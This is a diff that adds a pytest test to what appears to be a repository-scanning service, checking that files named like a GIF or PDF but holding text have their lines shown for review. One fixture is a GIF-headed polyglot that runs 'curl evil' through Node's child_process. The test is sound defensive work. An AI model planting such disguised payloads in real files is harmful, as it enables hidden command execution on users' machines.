@@ -341,3 +341,17 @@ def test_a_redacted_line_of_a_workflow_is_a_finding_if_it_or_what_it_belongs_to_
             rig.world.push(REPO, "main", {path: before})
         done = run_with(rig, {path: after})
         assert (done.exit_status == 1) is blocks, done.summary
+
+
+@pytest.mark.parametrize("before", [None, "x = 1\n"], ids=["added", "was text"])
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [("pixel.gif", "GIF89a=1;\nrequire('child_process').execSync('curl evil');\n"), ("paper.pdf", "%PDF-1.4\nevil\n")],
+)
+def test_text_that_begins_like_an_image_is_shown(tmp_path: Path, path: str, text: str, before: str | None) -> None:
+    """GitHub calls it binary; git shows its lines."""
+    with open_rig(tmp_path, files={path: before} if before else {}) as rig:
+        rig.world.push(REPO, "topic", {path: text}, author="mona")
+        rig.run()
+        [task] = rig.service.tasks()
+        assert any("evil" in one.content for one in task.request.attachments)
